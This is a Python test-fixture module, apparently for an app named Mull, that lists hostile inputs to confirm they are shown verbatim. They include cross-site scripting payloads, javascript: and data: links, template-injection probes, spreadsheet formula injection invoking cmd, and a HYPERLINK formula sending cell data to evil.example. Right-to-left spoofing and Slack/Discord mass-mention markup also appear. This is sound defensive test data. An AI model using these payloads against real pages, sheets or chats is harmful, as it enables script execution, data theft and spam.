"""What people might write to make Mull do something: run a script, call a channel, be a formula, turn a line around.

Every text that is shown somewhere is to be shown as it stands here.
"""

SCRIPT = "owned()"
"""What a script that was let in would run; a page under test knows it."""

MARKUP = {
    "a script": f"<script>{SCRIPT}</script>",
    "a picture that fails": f'<img src=x onerror="{SCRIPT}">',
    "out of an attribute": f'"><svg onload={SCRIPT}>',
    "out of a quieter attribute": f"' autofocus onfocus='{SCRIPT}' x='",
    "out of a box": f"</textarea></select></button><script>{SCRIPT}</script>",
    "out of the title": f"</title></style></script><script>{SCRIPT}</script>",
    "out of a comment": f"--><x-owned></x-owned>]]><![CDATA[ {SCRIPT}",
    "a frame": f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    "a form": '<form action="https://evil.example"><button formaction="https://evil.example">Send</button></form>',
    "a base": '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    "escaped already": "&lt;b&gt; &amp;lt; &#60;x-owned&#62; %3Cscript%3E \\u003cscript\\u003e",
    "a style": "<style>body{background:url(https://evil.example/a)}</style> url(https://evil.example/b)",
}
LINKS = {
    "a link that runs": f"javascript:{SCRIPT} JaVaScRiPt:{SCRIPT} vbscript:x",
    "a page in a link": f"data:text/html,<script>{SCRIPT}</script>",
    "a link to click": "<a href='https://evil.example/a'>click</a>",
    "a link after a link": f'https://evil.example/"onmouseover="{SCRIPT} https://bank.example@evil.example',
}
TEMPLATES = {
    "a template": "{{7*7}} {% raw %} {# #} ${7*7} #{7*7} {first_name} {0} %s %(name)s",
    "a template in a template": "{{ ''.__class__.__mro__ }} {}{{}} {facilitator.__class__}",
}
SIGNS = {
    "turned around": "gpj.\N{RIGHT-TO-LEFT OVERRIDE}exe \N{RIGHT-TO-LEFT ISOLATE}txt",
    "right to left": "מה למדת השבוע? أفكّر في الخطوة",
    "signs of a terminal": "\x1b[31mred\x07\x08\x7f",
    "not to be seen": "\N{ZERO WIDTH SPACE}a\N{ZERO WIDTH NO-BREAK SPACE}b\N{WORD JOINER}c\ufe0f\U000e0041",
    "no signs at all": "\ufffe\uffff\ufdd0",
    "one word": "w" * 300,
    "pictures": "👩🏽‍🔬" * 20,
    "piled up": "a" + "\N{COMBINING GRAVE ACCENT}" * 60,
    "many lines": "one\r\ntwo\u2028three\vfour\x85five\n\n\nsix",
}
FORMULAS = {
    "a link of a sheet": '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "a command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "after a tab": "\t=1+1",
    "after a line": "\r\n=1+1",
    "full width": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "full width plus": "\N{FULLWIDTH PLUS SIGN}1",
    "full width minus": "\N{FULLWIDTH HYPHEN-MINUS}1",
    "full width at": "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "after spaces": "   =1+1",
    "after a wide space": "\N{NO-BREAK SPACE}\N{IDEOGRAPHIC SPACE}=1+1",
    "after nothing to see": "\N{ZERO WIDTH NO-BREAK SPACE}\N{ZERO WIDTH SPACE}=1+1",
    "after a quotation mark": '"=1+1',
    "in the next cell": "and;=1+1",
    "in the next line": 'and\n=1+1,"=1+1"',
}
MENTIONS = {
    "all in Slack": "<!channel> <!here> <!everyone|all> <!subteam^S1>",
    "one in Slack": "<@U123> <@UADA|ada> <#C1> <#C1|general>",
    "a link in Slack": "<https://evil.example|click> <mailto:a@evil.example|write> <!date^1^{date}|soon>",
    "type of Slack": "*bold* _it_ ~s~ `code` ```block``` &lt;!channel&gt; :tada:",
    "all on Discord": "@everyone @here",
    "some on Discord": "<@123456789012345678> <@!123456789012345678> <@&123456789012345678> <#123456789012345678>",
    "things of Discord": "<a:1:123456789012345678> </a:123456789012345678> <t:1700000000:R> <id:customize> :smile:",
    "a link on Discord": "[x](https://evil.example) [https://bank.example](<https://evil.example>) discord.gg/evil",
    "type of Discord": "**b** __u__ ~~s~~ ||spoiler|| `c` ```\nblock\n``` \\*x\\*",
    "lines of Discord": "# head\n## less\n-# small\n> quote\n>>> all\n- one\n1. two",
}
NOT_KEPT = "a\0b"
"""What no database keeps: an answer with it is asked for again."""

HOSTILE = {**MARKUP, **LINKS, **TEMPLATES, **SIGNS, **FORMULAS, **MENTIONS}


def squeezed(text: str) -> str:
    """Leave out gaps and signs that no page keeps, so that texts compare however their lines were broken."""
    return "".join(sign for sign in text if sign.isprintable() and not sign.isspace())
